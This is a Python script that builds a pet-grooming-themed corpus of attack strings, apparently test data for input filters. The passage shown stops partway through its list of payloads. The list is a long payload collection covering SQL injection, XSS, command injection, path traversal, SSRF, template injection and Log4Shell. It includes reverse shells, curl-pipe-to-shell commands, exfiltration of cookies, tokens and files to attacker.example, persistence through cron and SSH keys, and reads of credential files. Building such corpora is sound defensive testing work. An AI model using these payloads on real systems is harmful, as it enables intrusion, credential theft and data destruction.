#!/usr/bin/env python3
"""Attack corpus generator for the petgrooming theme. Standard library only.
Writes attacks.jsonl next to this file. Almost everything is a hand-written literal;
a few rows join a hand-written theme prefix to a hand-written payload, or apply one
URL-encoding to a hand-written payload."""
import json
import os
import random
import urllib.parse

SEED = 16002
PREFIX = "haf4"
rng = random.Random(SEED)

L = []  # (category, class, value) hand-written literals


def add(cat, cls, value):
    L.append((cat, cls, value))


# ------------------------------------------------------------------ sqli (72 literal)
S = "sqli"
add(S, "petname-tautology-string", "Bella' OR '1'='1")
add(S, "petname-union-select", "Max' UNION SELECT login, password_hash FROM staff_users--")
add(S, "coatnote-stacked-drop", "Teddy bear cut'; DROP TABLE appointments;--")
add(S, "plain-boolean-number", "1 OR 1=1")
add(S, "kennel-run-union-postgres", "7 UNION ALL SELECT NULL,NULL,version()--")
add(S, "vax-mysql-sleep", "Rabies' AND SLEEP(5)-- -")
add(S, "petname-mssql-waitfor", "Luna'; WAITFOR DELAY '0:0:5'--")
add(S, "petname-pg-sleep-subquery", "Coco' AND 1=(SELECT 1 FROM pg_sleep(5))--")
add(S, "petname-oracle-pipe-delay", "Nala' || (SELECT CASE WHEN (1=1) THEN dbms_pipe.receive_message('x',5) ELSE NULL END FROM dual)--")
add(S, "kennel-mysql-extractvalue", "Run 12' AND extractvalue(1,concat(0x7e,(SELECT database())))-- ")
add(S, "petname-mysql-updatexml-hash", "Ollie' AND updatexml(1,concat(0x7e,user()),1)#")
add(S, "run-id-comment-as-space", "3/**/UNION/**/SELECT/**/owner_email,card_last4/**/FROM/**/owners")
add(S, "petname-mysql-versioned-comment", "Bijou'/*!50000UNION*//*!50000SELECT*/ 1,2,3-- -")
add(S, "plain-tautology+urlencode", "%27%20OR%201%3D1--%20")
add(S, "petname-tautology+double-urlencode", "Lola%2527%2520OR%25201%253D1--")
add(S, "petname-mssql-convert-error-casemix", "Duke' AnD 1=cOnVeRt(int,(SeLeCt tOp 1 name FrOm sysobjects))--")
add(S, "invoice-id-mssql-xp-cmdshell", "1;EXEC xp_cmdshell 'whoami'--")
add(S, "petname-sqlite-version-probe", "Pepper' AND (SELECT substr(sqlite_version(),1,1))='3'--")
add(S, "petname-sqlite-master-union", "Gus' UNION SELECT name, sql FROM sqlite_master--")
add(S, "petname-order-by-enum", "Schnitzel' ORDER BY 9--")
add(S, "sort-param-order-by-conditional", "price ASC, (SELECT CASE WHEN (SELECT substring(password,1,1) FROM staff WHERE id=1)='a' THEN 1 ELSE 1/0 END)")
add(S, "petname-pg-copy-program", "Ziggy'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--")
add(S, "petname-pg-cast-error", "Mango' AND 1=CAST((SELECT string_agg(email,',') FROM owners) AS int)--")
add(S, "petname-mssql-blind-ascii", "Pip' OR ASCII(SUBSTRING((SELECT TOP 1 password FROM staff),1,1))>64--")
add(S, "petname-paren-tautology", "Rex') OR ('a'='a")
add(S, "petname-dquote-paren-limit", "Kiwi\")) OR 1=1 LIMIT 1-- -")
add(S, "staff-login-comment-bypass", "frontdesk'-- ")
add(S, "plain-mysql-load-file", "-1 UNION SELECT 1,LOAD_FILE('/etc/passwd'),3")
add(S, "kennel-id-mysql-into-outfile", "0 UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/k.php'")
add(S, "petname-mysql-benchmark", "Toffee' AND BENCHMARK(5000000,SHA1('x'))-- -")
add(S, "petname-exists-like-blind", "Hazel' OR EXISTS(SELECT 1 FROM staff WHERE role='admin' AND password LIKE 'a%')--")
add(S, "petname-mysql-floor-rand-error", "Frida' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ")
add(S, "petname-concat-subquery", "Winston'||(SELECT password FROM staff WHERE id=1)||'")
add(S, "petname-information-schema-union", "Mochi' UNION SELECT table_name,column_name FROM information_schema.columns--")
add(S, "number-oracle-utl-inaddr-oob", "1 AND 1=UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example')")
add(S, "petname-mssql-xp-dirtree-oob", "Bear'; exec master..xp_dirtree '\\\\attacker.example\\x'--")
add(S, "petname-partial-urlencode-letters", "Nutmeg' %55NION %53ELECT login,pw_hash FROM staff-- ")
add(S, "petname-tautology+fullwidth", "Bella\uff07 \uff2f\uff32 \uff07\uff11\uff07\uff1d\uff07\uff11")
add(S, "petname-limit-offset", "Rocco' OR 1=1 LIMIT 1 OFFSET 2 -- ")
add(S, "petname-mysql-rlike-conditional", "Loki' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ")
add(S, "plain-and-string", "Daisy' AND 'x'='x")
add(S, "plain-empty-string-tautology", "' OR ''='")
add(S, "search-count-subquery", "1' AND (SELECT COUNT(*) FROM kennel_cards) > 0 AND '1'='1")
add(S, "vax-date-union-current-user", "2024-05-02' UNION SELECT NULL, current_user, NULL-- ")
add(S, "petname-stacked-update-invoice", "Milo'; UPDATE invoices SET total=0 WHERE owner_id=4412;--")
add(S, "petname-stacked-insert-admin", "Teddy'; INSERT INTO staff_users(login,role) VALUES('ghost','admin');--")
add(S, "petname-union-payments", "Archie' AND 1=2 UNION SELECT card_number, expiry FROM payments WHERE 'a'='a")
add(S, "petname-comment-space-hash", "Bailey'/**/OR/**/1/**/=/**/1#")
add(S, "petname-pg-stacked-sleep", "Rosie';SELECT pg_sleep(5)--")
add(S, "petname-mssql-exec-string", "Poppy';DECLARE @q varchar(99);SET @q='WAITFOR DELAY ''0:0:5''';EXEC(@q)--")
add(S, "petname-oracle-vversion-blind", "Otis' AND SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1)='O'--")
add(S, "petname-oracle-dual-union", "Jasper' UNION SELECT NULL FROM DUAL--")
add(S, "petname-oracle-all-users", "Maple' AND 1=(SELECT COUNT(*) FROM all_users)--")
add(S, "petname-gbk-multibyte-quote", "Willow%bf%27 OR 1=1-- -")
add(S, "petname-like-comment-casemix", "Pearl' oR/**/'1'LIKE'1")
add(S, "petname-hex-literal-compare", "Murphy' AND 0x61646d696e=(SELECT login FROM staff LIMIT 1)-- -")
add(S, "number-mysql-sleep-derived", "4 AND (SELECT 1 FROM (SELECT SLEEP(5))x)")
add(S, "number-mysql-procedure-analyse", "5 PROCEDURE ANALYSE()")
add(S, "petname-char-concat", "Sadie' AND CHAR(65)||CHAR(66)='AB'--")
add(S, "petname-sqlite-randomblob-delay", "Biscuit' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--")
add(S, "petname-sqlite-group-concat", "Ace' UNION SELECT group_concat(login||':'||pw_hash) FROM staff--")
add(S, "number-mssql-shutdown", "6; SHUTDOWN WITH NOWAIT;--")
add(S, "petname-pg-lo-import", "Pumpkin'; SELECT lo_import('/etc/passwd');--")
add(S, "petname-tautology+unicode-escape", "Cleo\\u0027 OR 1=1--")
add(S, "petname-open-comment", "Buddy' OR 'a'='a' /*")
add(S, "petname-plus-as-space", "Maggie'+OR+1=1--+")
add(S, "petname-sleep+urlencode", "Hazel%27%20AND%20SLEEP%285%29%23")
add(S, "plain-or-sleep-hash", "1 or sleep(5)#")
add(S, "petname-mssql-in-version", "Duke' AND 1 IN (SELECT @@version)--")
add(S, "vax-union-hostname", "Rabies 3-yr' UNION SELECT 1,@@hostname,@@datadir-- -")
add(S, "price-filter-between-union", "10 AND 20 UNION SELECT login,pw_hash,3 FROM staff_users")
add(S, "booking-ref-mysql-if-sleep", "A-20931' AND IF(SUBSTRING(user(),1,1)='r',SLEEP(5),0)-- -")

# ------------------------------------------------------------------ xss (70 literal)
X = "xss"
add(X, "petname-script-tag", "Bella <script>alert(document.domain)</script>")
add(X, "plain-img-onerror", "<img src=x onerror=alert(1)>")
add(X, "petname-attr-breakout-svg-cookie", "Max\"><svg/onload=fetch('//attacker.example/c?'+document.cookie)>")
add(X, "coatnote-iframe-js-uri", "Teddy cut <iframe src=\"javascript:alert(1)\"></iframe>")
add(X, "note-anchor-js-uri", "<a href=\"javascript:alert(document.cookie)\">pet photo</a>")
add(X, "note-anchor-js-uri-tab-entity", "<a href=\"jav&#x09;ascript:alert(1)\">vax cert</a>")
add(X, "note-img-onerror-decimal-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>")
add(X, "message-body-onload", "Thanks! <body onload=alert(1)>")
add(X, "note-details-ontoggle", "<details open ontoggle=alert(1)>Kennel rules</details>")
add(X, "note-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>")
add(X, "note-input-autofocus", "<input autofocus onfocus=alert(1)>")
add(X, "note-video-source-onerror", "<video><source onerror=alert(1)>")
add(X, "note-mathml-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")
add(X, "attr-breakout-img", "\"><img src=x onerror=alert(1)>")
add(X, "attr-single-quote-onmouseover", "' onmouseover='alert(1)")
add(X, "attr-dquote-autofocus", "Luna\" autofocus onfocus=\"alert(1)")
add(X, "textarea-breakout", "</textarea><script>alert(1)</script>")
add(X, "title-breakout", "Spa Day</title><script>alert(1)</script>")
add(X, "js-string-fromcharcode", "';alert(String.fromCharCode(88,83,83));//")
add(X, "js-string-escaped-dquote", "\\\";alert(1);//")
add(X, "script-block-breakout", "</script><script>alert(1)</script>")
add(X, "plain-script+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
add(X, "img-onerror+double-urlencode", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E")
add(X, "img-onerror+html-entity-decoded", "&lt;img src=x onerror=alert(1)&gt;")
add(X, "js-context+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e")
add(X, "petname-script-casemix", "Coco <ScRiPt>alert(1)</sCrIpT>")
add(X, "strip-once-nested-script", "<scr<script>ipt>alert(1)</scr</script>ipt>")
add(X, "svg-script-paren-entities", "<svg><script>alert&#40;1&#41;</script>")
add(X, "img-eval-atob", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">")
add(X, "object-data-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">")
add(X, "embed-js-uri", "<embed src=\"javascript:alert(1)\">")
add(X, "form-action-js-uri", "<form action=\"javascript:alert(1)\"><button>Book now</button></form>")
add(X, "button-formaction", "<form><button formaction=javascript:alert(1)>Confirm booking</button></form>")
add(X, "marquee-onstart", "<marquee onstart=alert(1)>Spa day special!</marquee>")
add(X, "style-import-exfil", "<style>@import 'https://attacker.example/steal.css';</style>")
add(X, "meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">")
add(X, "base-href-hijack", "<base href=\"https://attacker.example/\">")
add(X, "angularjs-csti-constructor", "{{constructor.constructor('alert(1)')()}}")
add(X, "img-onerror-template-literal", "<img src=x:x onerror=alert`1`>")
add(X, "svg-onload-named-entities", "<svg onload=alert&lpar;1&rpar;>")
add(X, "website-field-js-uri", "javascript:alert(document.cookie)")
add(X, "website-field-data-uri", "data:text/html,<script>alert(1)</script>")
add(X, "img-dynamic-import", "<img src=1 onerror=import('//attacker.example/x.js')>")
add(X, "script-src-remote", "<script src=//attacker.example/k.js></script>")
add(X, "svg-xlink-js", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Bella</text></a></svg>")
add(X, "img-slash-separators", "<img/src/onerror=alert(1)>")
add(X, "custom-tag-onclick", "<x onclick=alert(1)>click for coat photo</x>")
add(X, "img-cookie-redirect", "<img src=x onerror=\"location='//attacker.example/?c='+document.cookie\">")
add(X, "script+fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")
add(X, "script+percent-u", "%u003Cscript%u003Ealert(1)%u003C/script%u003E")
add(X, "svg-casemix-confirm", "<sVg OnLoAd=confirm(1)>")
add(X, "audio-onerror-prompt", "<audio src=x onerror=prompt(1)>")
add(X, "iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">")
add(X, "noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")
add(X, "svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>")
add(X, "img-bracket-concat", "<img src=x onerror=top['al'+'ert'](1)>")
add(X, "img-hex-escape-name", "<img src=x onerror=window['\\x61lert'](1)>")
add(X, "script-localstorage-exfil", "<script>fetch('https://attacker.example/x',{method:'POST',body:localStorage.getItem('token')})</script>")
add(X, "js-string-minus", "\"-alert(1)-\"")
add(X, "style-breakout", "</style><script>alert(1)</script>")
add(X, "comment-confusion", "<!--<img src=\"--><img src=x onerror=alert(1)//\">")
add(X, "select-autofocus", "<select onfocus=alert(1) autofocus>")
add(X, "textarea-autofocus", "<textarea autofocus onfocus=alert(1)>notes</textarea>")
add(X, "markdown-link-js", "[Bella's vax cert](javascript:alert(1))")
add(X, "markdown-image-attr-breakout", "![coat](x\" onerror=\"alert(1))")
add(X, "behaviour-note-img", "Nips at nails — muzzle <img src=x onerror=alert(1)>")
add(X, "owner-msg-svg", "See you Sat! <svg onload=alert(1)>")
add(X, "kennel-card-iframe-remote", "Run 7 <iframe src=//attacker.example/k.html width=0 height=0></iframe>")
add(X, "pricing-table-cell-onerror", "| Small | $65 | <img src=x onerror=alert(1)> |")
add(X, "incident-report-script-keylogger", "Nick on ear, styptic applied.<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>")

# ------------------------------------------------------------------ cmdi (62 literal)
C = "cmdi"
add(C, "petname-semicolon-cat", "Bella; cat /etc/passwd")
add(C, "upload-name-curl-pipe-sh", "vax.pdf; curl http://attacker.example/s.sh | sh")
add(C, "photo-name-and-id", "photo.jpg && id")
add(C, "photo-name-nc-reverse", "coat.png | nc 203.0.113.5 4444 -e /bin/sh")
add(C, "plain-dollar-subshell", "$(whoami)")
add(C, "plain-backtick", "`id`")
add(C, "petname-subshell-curl-bash", "Max$(curl -s attacker.example/x|bash)")
add(C, "petname-or-wget-sh", "Teddy || wget -qO- http://198.51.100.7/p | sh")
add(C, "photo-name-ifs-shadow", "kennel7.jpg;${IFS}cat${IFS}/etc/shadow")
add(C, "bash-dev-tcp-reverse", ";bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
add(C, "filename-newline+urlencode", "a.pdf%0aid")
add(C, "filename-raw-newline", "report.pdf\nwhoami")
add(C, "filename-cat+urlencode", "invoice.csv%3Bcat%20%2Fetc%2Fpasswd")
add(C, "filename-ping+urlencode", "x.jpg%26%26ping%20-c%203%20attacker.example")
add(C, "windows-type-winini", "Bella & type C:\\Windows\\win.ini")
add(C, "powershell-iex-download", "photo.jpg | powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"")
add(C, "powershell-encodedcommand", "kennel.pdf & powershell -enc dwBoAG8AYQBtAGkA")
add(C, "windows-certutil-download", "| certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe")
add(C, "windows-net-user-add", "&& cmd /c \"net user groomadmin P@ss123 /add\"")
add(C, "cmd-dquote-breakout", "Bella\" & whoami & \"")
add(C, "sh-single-quote-breakout", "'; id; echo '")
add(C, "sh-double-quote-breakout", "\"; id; echo \"")
add(C, "argi-curl-output", "--output=/var/www/html/x.php http://attacker.example/shell.txt")
add(C, "argi-ssh-proxycommand", "-oProxyCommand=sh -c 'curl attacker.example|sh' x")
add(C, "argi-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/x.sh")
add(C, "argi-find-exec", "photos -exec sh -c id ;")
add(C, "argi-git-upload-pack", "--upload-pack=touch /tmp/pwn")
add(C, "argi-wget-post-file", "--post-file=/etc/passwd http://attacker.example/")
add(C, "argi-rsync-e", "-e sh /tmp/upload/x.sh backup:/")
add(C, "argi-zip-unzip-command", "-T -TT 'sh -c id' export.zip")
add(C, "argi-sendmail-log", "owner@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php")
add(C, "brace-expansion", ";{cat,/etc/passwd}")
add(C, "quote-split-obfuscation", ";c''at /e't'c/pa''ss''wd")
add(C, "glob-obfuscation", ";/???/??t /???/p??s??")
add(C, "ifs-no-space", ";cat$IFS/etc/passwd")
add(C, "base64-pipe-sh", "$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)")
add(C, "timing-sleep", "Luna;sleep 10")
add(C, "windows-ping-timing", "Bella | ping -n 10 127.0.0.1")
add(C, "dns-exfil-nslookup", "$(nslookup $(whoami).attacker.example)")
add(C, "curl-file-exfil", ";curl -F f=@/etc/passwd http://attacker.example/up")
add(C, "python-reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'")
add(C, "perl-system", "; perl -e 'system(\"id\")'")
add(C, "php-cli-system", "; php -r 'system(\"id\");'")
add(C, "backtick-hostname-exfil", "Ollie `curl attacker.example/$(hostname)`")
add(C, "destructive-rm-backups", "Rex;rm -rf /var/lib/groomer/backups/*")
add(C, "crontab-persistence", ";(crontab -l; echo '* * * * * curl attacker.example/c|sh') | crontab -")
add(C, "or-uname", "|| uname -a")
add(C, "authorized-keys-persistence", ";echo ssh-ed25519 AAAAC3FAKEKEYFAKEKEY attacker@attacker.example >> ~/.ssh/authorized_keys")
add(C, "ifs-ls", ";ls${IFS}-la${IFS}/home")
add(C, "quote-split-whoami", ";w'h'o'am'i")
add(C, "backslash-split-whoami", ";\\w\\h\\o\\a\\m\\i")
add(C, "busybox-telnetd", "; /bin/busybox telnetd -l /bin/sh -p 9999")
add(C, "windows-dir-users", "Bella | dir C:\\Users\\")
add(C, "windows-set-env", "Luna & set")
add(C, "powershell-env", "; Get-ChildItem Env: | Out-String")
add(C, "powershell-subexpression", "$(Get-Content C:\\Windows\\win.ini)")
add(C, "powershell-exfil-db", "| Invoke-WebRequest -Uri http://attacker.example/x -Method POST -InFile C:\\groom\\clients.db")
add(C, "newline-absolute+urlencode", "Gus%0a/usr/bin/id")
add(C, "ansi-c-quoting-var", ";X=$'cat\\x20/etc/passwd'&&$X")
add(C, "printf-octal", "$(printf '\\151\\144')")
add(C, "perl-open-pipe", "cat /etc/passwd|")
add(C, "kennel-card-env-dump", "Run 7 notes;env")

# ------------------------------------------------------------------ traversal (44 literal)
T = "traversal"
add(T, "plain-dotdot-passwd", "../../../../etc/passwd")
add(T, "photo-path-dotdot-shadow", "photos/../../../../etc/shadow")
add(T, "windows-backslash-winini", "..\\..\\..\\windows\\win.ini")
add(T, "dotdot+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")
add(T, "dotdot+double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fpasswd")
add(T, "overlong-2byte-slash", "..%c0%af..%c0%af..%c0%afetc/passwd")
add(T, "overlong-3byte-slash", "..%e0%80%af..%e0%80%afetc/passwd")
add(T, "percent-u-slash", "..%u002f..%u002f..%u002fetc%u002fpasswd")
add(T, "strip-once-dotdotslash", "....//....//....//etc/passwd")
add(T, "strip-once-dot-dotslash", "..././..././..././etc/passwd")
add(T, "absolute-passwd", "/etc/passwd")
add(T, "windows-absolute-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts")
add(T, "null-byte-extension", "../../../../etc/passwd%00.jpg")
add(T, "vax-dir-proc-environ", "vax_certs/../../../../proc/self/environ")
add(T, "log-poison-target", "../../../../var/log/nginx/access.log")
add(T, "dotenv-slash+urlencode", "..%2f..%2f..%2f..%2fapp%2f.env")
add(T, "config-database-yml", "../../config/database.yml")
add(T, "git-config", "../../../.git/config")
add(T, "windows-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config")
add(T, "absolute-prefix-dotdot", "/var/www/petgroom/../../../etc/hosts")
add(T, "dots-encoded-slash-raw", "%2e%2e/%2e%2e/%2e%2e/etc/group")
add(T, "half-encoded-dots", ".%2e/.%2e/.%2e/etc/passwd")
add(T, "backslash+urlencode", "..%5c..%5c..%5cwindows%5csystem.ini")
add(T, "unc-share", "\\\\203.0.113.5\\share\\kennel.pdf")
add(T, "php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php")
add(T, "slash-double-urlencode-only", "..%252f..%252f..%252fetc%252fpasswd")
add(T, "windows-strip-once", "....\\\\....\\\\....\\\\windows\\\\win.ini")
add(T, "proc-self-cwd", "/proc/self/cwd/../../../etc/passwd")
add(T, "overlong-dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")
add(T, "fullwidth-slash-utf8", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd")
add(T, "fullwidth-literal", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd")
add(T, "zip-slip-entry", "../../../../var/www/html/shell.php")
add(T, "tomcat-path-param", "/static/..;/..;/WEB-INF/web.xml")
add(T, "windows-boot-ini", "/../../../../../boot.ini")
add(T, "kennel-dir-ssh-key", "kennel-cards/2024/../../../../../../root/.ssh/id_rsa")
add(T, "photo-file-then-dotdot", "images/bella.jpg/../../../../../../etc/passwd")
add(T, "aws-credentials", "../../../../home/groomer/.aws/credentials")
add(T, "windows-sam", "../../../../../../windows/system32/config/sam")
add(T, "strip-once+urlencode-slash", "....%2f....%2f....%2fetc%2fpasswd")
add(T, "windows-encoded-boot-ini", "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini")
add(T, "leading-slash-encoded-dots", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
add(T, "php-ini", "../../../../usr/local/etc/php/php.ini")
add(T, "query-suffix-truncation", "../../../../etc/passwd?.pdf")
add(T, "upload-dir-absolute-dotdot", "/var/lib/petgroom/uploads/../../../../etc/passwd")

# ------------------------------------------------------------------ ssrf (44 literal)
R = "ssrf"
add(R, "aws-metadata-iam", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
add(R, "loopback-admin", "http://127.0.0.1:8080/admin")
add(R, "localhost-redis", "http://localhost:6379/")
add(R, "gopher-redis-set", "gopher://127.0.0.1:6379/_SET%20groom%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A")
add(R, "ipv6-loopback", "http://[::1]:22/")
add(R, "decimal-loopback", "http://2130706433/")
add(R, "hex-loopback", "http://0x7f000001/")
add(R, "octal-loopback", "http://0177.0.0.1/")
add(R, "short-loopback", "http://127.1/")
add(R, "zero-host", "http://0/")
add(R, "gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true")
add(R, "ipv4-mapped-ipv6-metadata", "http://[::ffff:169.254.169.254]/latest/meta-data/")
add(R, "aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/")
add(R, "alibaba-metadata", "http://100.100.100.200/latest/meta-data/")
add(R, "ecs-task-credentials", "http://169.254.170.2/v2/credentials/")
add(R, "userinfo-confusion", "http://attacker.example@127.0.0.1/")
add(R, "fragment-confusion", "http://127.0.0.1#@vetclinic.example/")
add(R, "open-redirect-chain", "https://attacker.example/302?u=http://10.0.0.5/")
add(R, "file-scheme-passwd", "file:///etc/passwd")
add(R, "file-scheme-windows", "file:///C:/Windows/win.ini")
add(R, "dict-memcached", "dict://127.0.0.1:11211/stats")
add(R, "internal-elasticsearch", "http://10.0.0.12:9200/_cat/indices")
add(R, "router-admin", "http://192.168.1.1/cgi-bin/luci")
add(R, "docker-api", "http://172.17.0.1:2375/containers/json")
add(R, "k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets")
add(R, "consul-kv", "http://consul.service.internal:8500/v1/kv/?recurse")
add(R, "enclosed-alphanumerics", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/")
add(R, "octal-metadata", "http://0251.0376.0251.0376/latest/meta-data/")
add(R, "decimal-metadata", "http://2852039166/latest/meta-data/")
add(R, "hex-metadata", "http://0xa9fea9fe/latest/meta-data/")
add(R, "two-part-metadata", "http://169.254.43518/latest/meta-data/")
add(R, "host+urlencode", "http://%31%32%37%2e%30%2e%30%2e%31/admin")
add(R, "gopher-smtp", "gopher://10.0.0.8:25/_MAIL%20FROM:<x@attacker.example>%0D%0ARCPT%20TO:<owner@example.com>%0D%0ADATA%0D%0A")
add(R, "dns-rebind-loopback-name", "http://127.0.0.1.attacker.example/admin")
add(R, "dns-rebind-metadata", "http://rebind.attacker.example/latest/meta-data/")
add(R, "java-jar-scheme", "jar:http://attacker.example/x.zip!/a.txt")
add(R, "java-netdoc", "netdoc:///etc/passwd")
add(R, "ipv6-full-mapped-consul", "http://[0:0:0:0:0:ffff:127.0.0.1]:8500/v1/agent/self")
add(R, "internal-service-name", "http://internal-api:8080/v1/staff/export")
add(R, "scheme-relative-metadata", "//169.254.169.254/latest/user-data")
add(R, "backslash-authority-confusion", "http://127.0.0.1:80\\@attacker.example/")
add(R, "zero-ip-actuator", "http://0.0.0.0:8080/actuator/env")
add(R, "vet-portal-webhook-metadata", "Vet portal webhook: http://169.254.169.254/latest/meta-data/")
add(R, "calendar-import-internal", "webcal://10.1.2.3:8443/internal/schedule.ics")

# ------------------------------------------------------------------ code (72 literal)
K = "code"
add(K, "ssti-jinja2-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
add(K, "ssti-jinja2-self-context", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}")
add(K, "ssti-flask-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}")
add(K, "ssti-flask-config-leak", "Hi {{ config.items() }}")
add(K, "ssti-jinja2-subclasses-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}")
add(K, "ssti-jinja2-lipsum", "Bella is ready! {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}")
add(K, "ssti-jinja2-attr-hex", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}")
add(K, "ssti-twig-filter-system", "{{['id']|filter('system')}}")
add(K, "ssti-twig1-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")
add(K, "ssti-twig-map-passthru", "{{['cat /etc/passwd']|map('passthru')|join}}")
add(K, "ssti-freemarker-assign-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")
add(K, "ssti-freemarker-inline-execute", "Dear ${\"freemarker.template.utility.Execute\"?new()(\"id\")}")
add(K, "ssti-velocity-runtime", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")")
add(K, "ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x")
add(K, "spel-hash-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}")
add(K, "spel-dollar-curl", "${T(java.lang.Runtime).getRuntime().exec(\"curl attacker.example\")}")
add(K, "ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}")
add(K, "ognl-struts-member-access", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}")
add(K, "el-reflection-runtime", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")
add(K, "ssti-erb-backtick", "<%= `id` %>")
add(K, "ssti-erb-system", "Coat notes <%= system('cat /etc/passwd') %>")
add(K, "ssti-erb-file-read", "<%= File.read('/etc/passwd') %>")
add(K, "ssti-smarty-system", "{system('id')}")
add(K, "ssti-smarty-php-tag", "{php}echo `id`;{/php}")
add(K, "ssti-mako-import", "${__import__('os').popen('id').read()}")
add(K, "ssti-mako-block", "<% import os; x=os.popen('id').read() %>${x}")
add(K, "ssti-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}")
add(K, "ssti-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('id') %>")
add(K, "ssti-nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}")
add(K, "ssti-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")")
add(K, "ssti-tornado-import", "{% import os %}{{ os.popen('id').read() }}")
add(K, "ssti-django-debug", "Reminder for {{ pet_name }} {% debug %}")
add(K, "ssti-flask-flashed-builtins-open", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}")
add(K, "ssti-handlebars-proto-lookup", "{{#with (lookup this \"constructor\")}}{{#with (lookup this \"constructor\")}}{{this \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}")
add(K, "log4shell-ldap", "${jndi:ldap://attacker.example/a}")
add(K, "log4shell-lower-nesting", "Bella ${${lower:j}ndi:${lower:l}dap://attacker.example/x}")
add(K, "log4shell-default-value-split", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7:1099/o}")
add(K, "log4shell-dns-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}")
add(K, "log4shell-lower-ldap-letters", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/c}")
add(K, "log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}")
